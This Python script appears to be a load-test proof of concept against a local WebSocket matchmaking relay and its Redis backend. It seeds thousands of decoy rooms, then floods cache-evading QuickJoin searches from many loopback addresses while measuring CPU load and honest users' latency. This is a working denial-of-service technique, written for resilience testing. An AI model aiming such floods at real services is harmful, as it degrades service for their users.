"""Searches over large entry sets, each missing the node's half-second cache. On n2:
ATK rooms {mode: M, map: other, x0..x12: 1} and ATK {mode: other, map: P, x0..x12: 1}
(1 member, ids 'zz…'), and one bait room {mode: M, map: P, x0..x12: 1} (id 'a…', last in
order): OPEN_MATCHING looks at ~ATK+1 ids per search. F addresses on n1 each send R quick
joins/s (under the 10/s search rate) with filters {mode, map} plus a distinct subset of the
x entries (so no two share the node's cache); each is redirected to the bait and ignores it.
Measures Redis/n1/n2 CPU, EVALSHA usec per call, an honest pair's ping RTT on n1 and an
honest quick join on n1 ({game: casual}, matching a room on n2) every 0.6 s."""
import asyncio, os, time, statistics, subprocess
from lib18 import *
N1 = os.environ.get("N1", "ws://127.0.0.1:8121/ws"); N2 = os.environ.get("N2", "ws://127.0.0.1:8122/ws")
ATK = int(os.environ.get("ATK", "2040")); F = int(os.environ.get("F", "40")); R = float(os.environ.get("R", "9")); DUR = float(os.environ.get("DUR", "15"))
NF = int(os.environ.get("NF", "0"))   # extra filters per flood search beyond mode/map (0: a random subset)
RUN = os.environ.get("RUN", "/tmp/attack21")
RPID = int(open(RUN + "/redis.pid").read()); P1 = int(open(RUN + "/n1.pid").read()); P2 = int(open(RUN + "/n2.pid").read())
T = int(time.time()) % 100000; X = 13
def rcli(*a): return subprocess.run(["redis-cli", "-p", "6421", *a], capture_output=True, text=True).stdout
async def conn(url, addr):
    c = C(); c.ws = await websockets.connect(url, ping_interval=None, max_size=1<<26, local_addr=(addr, 0), open_timeout=20)
    s = pb.ServerEnvelope(); s.ParseFromString(await c.ws.recv()); c.welcome = s.messages[0].welcome; c._handle(s)
    c.task = asyncio.create_task(c._read()); return c
STATS = {}
def pcts(v): v = sorted(v); return "p50 %.0f p99 %.0f max %.0f" % (statistics.median(v), v[max(0, int(len(v) * .99) - 1)], v[-1]) if v else "-"
async def main():
    mode, mp = "m%d" % T, "p%d" % T; xs = {"x%d" % i: "1" for i in range(X)}
    specs = [("zz%05d-a%04d" % (T, i), dict(xs, mode=mode, map="other")) for i in range(ATK)]
    specs += [("zz%05d-b%04d" % (T, i), dict(xs, mode="other", map=mp)) for i in range(ATK)]
    atk = []
    for s in range((len(specs) + 15) // 16):
        c = await conn(N2, "127.20.%d.%d" % (s // 3 // 200 + 1, s // 3 % 200 + 1))
        await c.send(*[cm(join=pb.JoinRoom(request_id=j + 1, room=r, room_type="relay", create=pb.RoomOptions(metadata=md))) for j, (r, md) in enumerate(specs[s * 16:(s + 1) * 16])])
        atk.append(c)
    bait = await conn(N2, "127.21.0.1"); print("bait:", (await bait.join("a%05d-bait" % T, 1, create=pb.RoomOptions(metadata=dict(xs, mode=mode, map=mp)))).WhichOneof("kind"))
    casual = await conn(N2, "127.21.0.2"); print("casual:", (await casual.join("casual-%05d" % T, 1, create=pb.RoomOptions(metadata={"game": "casual"}))).WhichOneof("kind"))
    h1 = await conn(N1, "127.0.0.1"); h2 = await conn(N1, "127.0.0.1"); hq = await conn(N1, "127.0.0.2")
    await h1.join("honest21-%d" % T, 1); await h2.join("honest21-%d" % T, 1)
    fl = [await conn(N1, "127.30.%d.%d" % (i // 200 + 1, i % 200 + 1)) for i in range(F)]
    await asyncio.sleep(4)
    print("open sets:", rcli("zcard", "tickrelay:open:relay").strip(), "entry-set registry:", rcli("scard", "tickrelay:open-entries:relay").strip(), "used_memory", rcli("info", "memory").split("used_memory:")[1].split()[0])
    async def qj_probe(c, filters, n):
        i = len(c.msgs); t = time.time()
        await c.send(cm(quick_join=pb.QuickJoin(request_id=n, room_type="relay", filters=filters)))
        m = await c.wait(lambda k, m: k in ("joined", "error", "redirect") and getattr(m, k).request_id == n, 6, start=i)
        return (time.time() - t) * 1000, (m.WhichOneof("kind") if m else "timeout")
    # baseline honest quick join, no flood
    base = [await qj_probe(hq, {"game": "casual"}, 1000 + k) for k in range(3) if not await asyncio.sleep(0.6)]
    print("honest quick join before the flood:", [(round(a), b) for a, b in base])
    rcli("config", "resetstat")
    stop = time.time() + DUR; t0 = time.time(); r0, c1, c2 = cpu_secs(RPID), cpu_secs(P1), cpu_secs(P2); rtts = []; qjs = []
    async def honest():
        s = 2
        while time.time() < stop:
            i = len(h1.msgs); t = time.time()
            await h1.send(cm(ping=pb.Ping(nonce=s)))
            m = await h1.wait(lambda k, m, s=s: k == "pong" and m.pong.nonce == s, 2, start=i)
            rtts.append((time.time() - t) * 1000 if m else 2000); s += 1
            await asyncio.sleep(0.05)
    async def honest_qj():
        n = 1
        while time.time() < stop:
            await asyncio.sleep(0.6)
            qjs.append(await qj_probe(hq, {"game": "casual"}, n)); n += 1
    async def flooder(c, f):
        rid = 1
        while time.time() < stop:
            combo = (f * 997 + rid * 31) % (1 << X) if not NF else None
            extra = {"x%d" % b: "1" for b in range(X) if combo >> b & 1} if not NF else {"x%d" % b: "1" for b in range(NF)}
            await c.send(cm(quick_join=pb.QuickJoin(request_id=rid, room_type="relay", filters=dict(extra, mode=mode, map=mp))))
            rid += 1
            for t, k, m in c.msgs:
                key = k if k != "error" else "err%d" % m.error.code
                STATS[key] = STATS.get(key, 0) + 1
            c.msgs.clear()
            await asyncio.sleep(1 / R)
    await asyncio.gather(honest(), honest_qj(), *[flooder(c, i) for i, c in enumerate(fl)])
    el = time.time() - t0
    ev = [l for l in rcli("info", "commandstats").splitlines() if "evalsha" in l]
    print("ATK=%d F=%d R=%.0f NF=%d: redis CPU %.2f, n1 %.2f, n2 %.2f cores; %s" % (ATK, F, R, NF, (cpu_secs(RPID) - r0) / el, (cpu_secs(P1) - c1) / el, (cpu_secs(P2) - c2) / el, ev))
    print("honest ping RTT on n1 (ms):", pcts(rtts), "n=%d" % len(rtts))
    print("honest quick join on n1 (ms):", pcts([a for a, b in qjs]), {b: sum(1 for _, x in qjs if x == b) for _, b in qjs})
    print("flood answers:", STATS, "= %.0f/s" % (sum(STATS.values()) / el))
    for c in fl + atk + [h1, h2, hq, bait, casual]: await c.close()
asyncio.run(main())
